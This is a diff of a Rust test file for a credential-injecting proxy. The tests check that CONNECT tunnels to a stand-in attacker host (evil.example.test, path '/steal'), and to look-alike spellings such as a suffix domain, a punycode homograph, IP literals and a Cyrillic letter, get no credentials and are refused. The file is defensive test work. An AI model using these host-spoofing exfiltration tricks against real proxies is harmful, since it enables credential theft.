@@ -69,7 +69,8 @@ fn no_credential_reached_the_upstream(app: &TestApp, since: usize) {
 }
 
 /// CONNECT to a host no service binds, carrying a service's name in the inner Host and the TLS
-/// SNI: the tunnel is spliced (or refused under `deny`), nothing is attached.
+/// SNI: the tunnel is spliced (or, under `deny`, intercepted and refused inside), nothing is
+/// attached.
 #[tokio::test]
 async fn exfil_connect_to_attacker_host_with_service_host_and_sni() {
     let app = spawn_app().await;
@@ -84,15 +85,25 @@ async fn exfil_connect_to_attacker_host_with_service_host_and_sni() {
     let seen = app.upstream.last();
     assert_eq!(seen.path_and_query, "/steal");
     assert_eq!(seen.header("authorization"), None, "nothing attached");
+    // Under deny the CONNECT is intercepted to explain the refusal: the service's name in SNI
+    // and Host is misdirected (421), the attacker's own name is refused (403); nothing is sent.
     app.set_policy("exfil-connect", "deny").await;
-    let (code, head) = agent::connect(app.proxy, "evil.example.test:443", Some(&auth))
-        .await
-        .unwrap_err();
-    assert_eq!(code, 403, "{head}");
-    assert!(
-        head.contains("x-agent-vault-proxy-error: forbidden_host"),
-        "{head}"
+    let before = app.upstream.count();
+    let resp = agent::dial(app.proxy, &auth, "evil.example.test:443")
+        .sni("api.example.test")
+        .get("/steal", "api.example.test")
+        .await;
+    assert_eq!(resp.status(), 421);
+    let resp = agent::dial(app.proxy, &auth, "evil.example.test:443")
+        .sni("evil.example.test")
+        .get("/steal", "evil.example.test")
+        .await;
+    assert_eq!(resp.status(), 403);
+    assert_eq!(
+        resp.headers()["x-agent-vault-proxy-error"],
+        "forbidden_host"
     );
+    assert_eq!(app.upstream.count(), before, "nothing reached the upstream");
     no_credential_reached_the_upstream(&app, 0);
 }
 
@@ -204,23 +215,44 @@ async fn exfil_host_spellings_route_canonically() {
         );
     }
     let before = app.upstream.count();
-    // Look-alikes are other hosts: under `deny` they are refused.
-    for connect in [
-        "api.example.test.evil:443",   // suffix
-        "xn--pi-7kc.example.test:443", // a look-alike's A-label
-        "[::ffff:127.0.0.1]:443",      // IP literals are never bound
-        "127.0.0.1:443",
+    // Look-alikes are other hosts: under `deny` they are refused (inside the intercepted
+    // connection, with a leaf for the look-alike's own name), and nothing is forwarded.
+    for (connect, host, sni) in [
+        (
+            "api.example.test.evil:443",
+            "api.example.test.evil",
+            "api.example.test.evil",
+        ), // a suffix
+        (
+            "xn--pi-7kc.example.test:443",
+            "xn--pi-7kc.example.test",
+            "xn--pi-7kc.example.test",
+        ), // a look-alike's A-label
+        // IP literals are never bound (rustls verifies the leaf's IP and sends no SNI).
+        (
+            "[::ffff:127.0.0.1]:443",
+            "[::ffff:127.0.0.1]",
+            "::ffff:127.0.0.1",
+        ),
+        ("127.0.0.1:443", "127.0.0.1", "127.0.0.1"),
     ] {
-        let (code, head) = agent::connect(app.proxy, connect, Some(&auth))
-            .await
-            .unwrap_err();
-        assert_eq!(code, 403, "{connect}: {head}");
+        let resp = agent::dial(app.proxy, &auth, connect)
+            .trusting(&ca)
+            .sni(sni)
+            .get("/spelled", host)
+            .await;
+        assert_eq!(resp.status(), 403, "{connect}");
+        assert_eq!(
+            resp.headers()["x-agent-vault-proxy-error"],
+            "forbidden_host",
+            "{connect}"
+        );
     }
     // Raw Unicode in a request target is not valid HTTP; Cyrillic а is not a.
     let (code, head) = agent::connect(app.proxy, "аpi.example.test:443", Some(&auth))
         .await
         .unwrap_err();
-    assert!(code == 400 || code == 403, "{head}");
+    assert_eq!(code, 400, "{head}");
     // Spellings that different parsers read differently are refused outright.
     for connect in [
         "api.example.test..:443",
